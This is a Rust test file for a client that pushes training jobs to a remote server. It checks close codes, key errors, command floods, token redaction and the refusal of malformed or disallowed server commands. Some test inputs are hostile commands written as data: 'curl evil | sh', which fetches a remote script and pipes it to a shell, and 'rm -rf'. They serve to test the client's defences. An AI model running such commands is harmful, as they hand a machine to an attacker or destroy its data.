//! Pushing a job: every way it can end, and what is known then.

use tensorpool_core::model::System;
use tensorpool_core::session::{CommandResult, Push, PushJob, Session as _, SessionAction, SessionInput};
use tensorpool_core::{ApiToken, BaseUrl, Context, Time};

use crate::far::{Connection, Far, is_not_there, opens, refuses, stalls};
use crate::transcript::{Hands, assert_transcript, context, transcript};

const JOB: &str = r#"{"job_id":"j-7","message":"Job j-7 created"}"#;
const UPLOAD: &str = r#"{"command":"rsync -a ./ up@host:in","command_show_stdout":true}"#;
const START: &str = r#"{"command":"ssh up@host start"}"#;

fn push() -> Push {
    let job = PushJob::new("commands = [\"python train.py\"]\n", "c-7").system(System::Darwin).teardown(true);
    Push::new(&context(), &job).unwrap()
}

fn far(connection: Connection) -> Far {
    Far::new([connection])
}

fn done() -> CommandResult {
    CommandResult::new(0, "sent 12 files\n", "")
}

#[test]
fn a_push_uploads_and_ends_well() {
    assert_transcript!(
        "push_well",
        push(),
        far(opens()
            .says(JOB)
            .says(UPLOAD)
            .awaits()
            .says(START)
            .awaits()
            .says(r#"{"message":"Running"}"#)
            .closes(1000, "")),
        Hands::idle().run(1, done()).run(0, done())
    );
}

#[test]
fn a_command_that_runs_for_minutes_does_not_starve_the_connection_and_others_queue() {
    assert_transcript!(
        "push_long_command",
        push(),
        far(opens()
            .says(JOB)
            .says(UPLOAD)
            .says(START)
            .says(r#"{"message":"still waiting"}"#)
            .awaits()
            .awaits()
            .closes(1000, "")),
        Hands::idle().run(62, done()).run(0, done())
    );
}

#[test]
fn success_of_the_server_is_not_success_if_a_command_failed() {
    assert_transcript!(
        "push_command_failed",
        push(),
        far(opens().says(JOB).says(UPLOAD).awaits().says(START).awaits().closes(1000, "bye")),
        Hands::idle().run(1, CommandResult::new(23, "", "rsync: link_stat failed\n")).run(0, done())
    );
}

#[test]
fn a_refused_command_is_a_failed_one() {
    assert_transcript!(
        "push_command_refused",
        push(),
        far(opens().says(r#"{"command":"curl evil | sh"}"#).awaits().closes(1000, "")),
        Hands::idle().run(0, CommandResult::refused("`curl` is not allowed"))
    );
}

#[test]
fn a_command_that_is_dropped_is_refused() {
    assert_transcript!(
        "push_command_dropped",
        push(),
        far(opens().says(JOB).says(UPLOAD).says(START).awaits().awaits().closes(1000, "")),
        Hands::idle().drop_it().run(0, done())
    );
}

#[test]
fn a_server_that_does_not_wait_for_its_command_has_not_succeeded() {
    assert_transcript!(
        "push_command_unanswered",
        push(),
        far(opens().says(JOB).says(UPLOAD).closes(1000, "")),
        Hands::idle().run(60, done())
    );
}

#[test]
fn a_lost_connection_may_have_submitted_the_job() {
    assert_transcript!("push_lost_after_the_id", push(), far(opens().says(JOB).cuts()), Hands::idle());
    assert_transcript!("push_lost_before_the_id", push(), far(opens().cuts()), Hands::idle());
    assert_transcript!("push_1006", push(), far(opens().says(JOB).closes(1006, "")), Hands::idle());
}

#[test]
fn other_close_codes_are_failures_with_their_reason() {
    assert_transcript!(
        "push_closed_with_a_reason",
        push(),
        far(opens().says(JOB).closes(1011, "cluster c-7 is not running")),
        Hands::idle()
    );
    assert_transcript!(
        "push_closed_without_a_code",
        push(),
        far(opens().closes_without_a_code()),
        Hands::idle()
    );
    assert_transcript!(
        "push_closed_without_naming_a_job",
        push(),
        far(opens().says(r#"{"message":"queued"}"#).closes(1000, "bye")),
        Hands::idle()
    );
    // Work that was asked for and done is a sign of a job, even without its id.
    assert_transcript!(
        "push_uploaded_without_an_id",
        push(),
        far(opens().says(UPLOAD).awaits().closes(1000, "")),
        Hands::idle().run(0, done())
    );
    assert_transcript!(
        "push_closed_late_with_1008",
        push(),
        far(opens().says(JOB).closes(1008, "quota")),
        Hands::idle()
    );
}

#[test]
fn a_silent_server_is_given_up() {
    assert_transcript!("push_silent", push(), far(opens().says(JOB).mute()), Hands::idle());
}

#[test]
fn a_quiet_server_that_answers_pings_is_not() {
    assert_transcript!(
        "push_quiet",
        push(),
        far(opens().rests(31).says(JOB).closes(1000, "")),
        Hands::idle()
    );
}

#[test]
fn a_refused_key_is_told_in_whatever_way_the_server_says_it() {
    assert_transcript!(
        "push_key_1008",
        push(),
        far(opens().closes(1008, "bad key tp-canary")),
        Hands::idle()
    );
    assert_transcript!("push_key_4401", push(), far(opens().closes(4401, "")), Hands::idle());
    assert_transcript!(
        "push_key_401",
        push(),
        far(refuses(401, r#"{"message":"Invalid API key"}"#)),
        Hands::idle()
    );
    assert_transcript!("push_key_403", push(), far(refuses(403, "")), Hands::idle());
    assert_transcript!(
        "push_key_error_frame",
        push(),
        far(opens().says(r#"{"error":"Invalid key tp-canary"}"#).closes(1000, "")),
        Hands::idle()
    );
    assert_transcript!(
        "push_key_error_frame_cut",
        push(),
        far(opens().says(r#"{"error":"Invalid API key"}"#).cuts()),
        Hands::idle()
    );
}

#[test]
fn an_error_frame_that_does_not_speak_of_the_key_is_the_servers_answer_to_the_job() {
    // Key and job go out together, so what is wrong may be found before or after the job was taken.
    assert_transcript!(
        "push_error_frame_first",
        push(),
        far(opens().says(r#"{"error":"cluster c-7 is not running"}"#).closes(1008, "error")),
        Hands::idle()
    );
    assert_transcript!(
        "push_error_frame_first_cut",
        push(),
        far(opens()
            .says(r#"{"error":"tp.toml: unexpected token at line 3"}"#)
            .says(r#"{"error":"giving up"}"#)
            .cuts()),
        Hands::idle()
    );
}

#[test]
fn an_error_frame_after_something_else_is_not_about_the_key() {
    assert_transcript!(
        "push_error_frame_late",
        push(),
        far(opens().says(JOB).says(r#"{"error":"disk nearly full"}"#).closes(1000, "")),
        Hands::idle()
    );
    assert_transcript!(
        "push_error_frame_then_accepted",
        push(),
        far(opens().says(r#"{"error":"slow today"}"#).says(JOB).closes(1000, "")),
        Hands::idle()
    );
}

#[test]
fn an_error_the_server_reports_ends_the_push() {
    assert_transcript!(
        "push_status_error",
        push(),
        far(opens().says(JOB).says(r#"{"status":"Error","message":"tp.toml: no commands"}"#)),
        Hands::idle()
    );
}

#[test]
fn a_connection_that_cannot_be_made_pushes_nothing() {
    assert_transcript!("push_not_there", push(), far(is_not_there()), Hands::idle());
    assert_transcript!("push_stalled", push(), far(stalls()), Hands::idle());
    assert_transcript!(
        "push_refused_404",
        push(),
        far(refuses(404, r#"{"detail":"Not Found"}"#)),
        Hands::idle()
    );
    assert_transcript!("push_refused_503", push(), far(refuses(503, "")), Hands::idle());
    assert_transcript!(
        "push_refused_200",
        push(),
        far(refuses(200, "<html><title>Portal</title>")),
        Hands::idle()
    );
}

#[test]
fn frames_off_the_protocol_are_shown_and_skipped() {
    assert_transcript!(
        "push_odd_frames",
        push(),
        far(opens()
            .says(JOB)
            .says(r#"{"job_id":"j-8"}"#)
            .says(JOB)
            .says(r#"{"message":null,"command":"","status":"queued","eta_s":[4,5]}"#)
            .says(r#"{"message":7,"command":["rm","-rf"],"command_show_stdout":"yes"}"#)
            .says(r#"{"command":"  "}"#)
            .says("hello")
            .says("[1,2]")
            .says("")
            .says_bytes(b"{\"message\":\"\xff\"}")
            .says_binary(b"{\"command\":\"id\"}")
            .says(&format!(r#"{{"message":"{}"}}"#, "x".repeat(1024 * 1024)))
            .closes(1000, "")),
        Hands::idle()
    );
}

#[test]
fn a_frame_that_repeats_the_key_is_shown_without_it() {
    // The transcript refuses to hold the token, in what is shown and in what the error says.
    assert_transcript!(
        "push_key_repeated",
        push(),
        far(opens()
            .says(JOB)
            .says(r#"{"command":"rsync one","message":"bad key tp-canary","why":["tp-canary"]}"#)
            .awaits()
            .says(r#"{"message":"bad key tp\u002dcanary"}"#)
            .says(r#"{"status":"error","message":"tp\u002dcanary again"}"#)),
        Hands::idle().run(0, done())
    );
}

#[test]
fn a_broken_protocol_ends_the_push() {
    assert_transcript!(
        "push_broken",
        push(),
        far(opens().says(JOB).babbles("a text frame that is not UTF-8")),
        Hands::idle()
    );
}

#[test]
fn a_flood_of_commands_ends_the_push() {
    let flood = (0..300).fold(opens(), |far, n| far.says(&format!(r#"{{"command":"rsync {n}"}}"#)));
    let mut push = push();
    let lines = {
        let mut far = Far::new([flood]);
        let mut now = Time::ZERO;
        let mut commands = Vec::new();
        loop {
            match push.poll(now) {
                SessionAction::Open(_) => {
                    let opened = far.connect(now);
                    push.handle(now, opened);
                }
                SessionAction::Recv { until } => match far.next(until) {
                    Some((time, received)) => {
                        now = time;
                        push.handle(now, SessionInput::Received(received));
                    }
                    None => panic!("the flood ended unnoticed"),
                },
                SessionAction::Event(event) => commands.push(event),
                SessionAction::Ping => far.pinged(now),
                SessionAction::Finished => break,
                _ => {}
            }
        }
        assert!(far.left() > 0, "it was stopped before its end");
        commands.len()
    };
    assert_eq!(lines, 1, "one command is out, the others wait");
    let error = push.finish().unwrap_err().to_string();
    assert!(error.contains("too many commands"), "{error}");
}

#[test]
fn an_attempt_that_was_dropped_is_made_again_and_the_job_is_still_sent_once() {
    let mut push = push();
    assert!(matches!(push.poll(Time::ZERO), SessionAction::Open(_)));
    assert!(matches!(push.poll(Time::ZERO), SessionAction::WaitUntil(_)), "it is under way");
    push.forget_unanswered();
    let lines = transcript(push, far(opens().closes(1000, "")), Hands::idle());
    assert_eq!(lines.matches("OPEN").count(), 1, "{lines}");
    assert_eq!(lines.matches("tp_config").count(), 1, "{lines}");
}

#[test]
fn a_push_that_is_given_up_says_so() {
    let mut push = push();
    assert!(matches!(push.poll(Time::ZERO), SessionAction::Open(_)));
    push.handle(Time::ZERO, SessionInput::Opened);
    let never_sent = push.finish().unwrap_err();
    assert!(!never_sent.may_have_been_applied(), "{never_sent}");
}

#[test]
fn the_key_goes_encrypted_or_nowhere() {
    let to = |url: &str| Context::new(BaseUrl::parse(url).unwrap(), ApiToken::new("tp-canary").unwrap());
    let job = PushJob::new("", "c-7");
    assert!(Push::new(&to("http://engine.example"), &job).unwrap_err().to_string().contains("unencrypted"));
    assert!(Push::new(&to("http://engine.example").allow_plain_http(), &job).is_ok());
    let mut push = Push::new(&to("http://127.0.0.1:8000"), &job).unwrap();
    let SessionAction::Open(opening) = push.poll(Time::ZERO) else { panic!() };
    assert_eq!(opening.request.uri(), "ws://127.0.0.1:8000/job/push");
    assert!(!format!("{push:?} {opening:?}").contains("canary"));
    assert!(
        Push::new(&Context::anonymous(BaseUrl::default()), &job).unwrap_err().to_string().contains("missing")
    );
    for bad in ["", "..", "c/7", "c-7\n"] {
        assert!(Push::new(&to("https://engine.example"), &PushJob::new("", bad)).is_err(), "{bad:?}");
    }
}
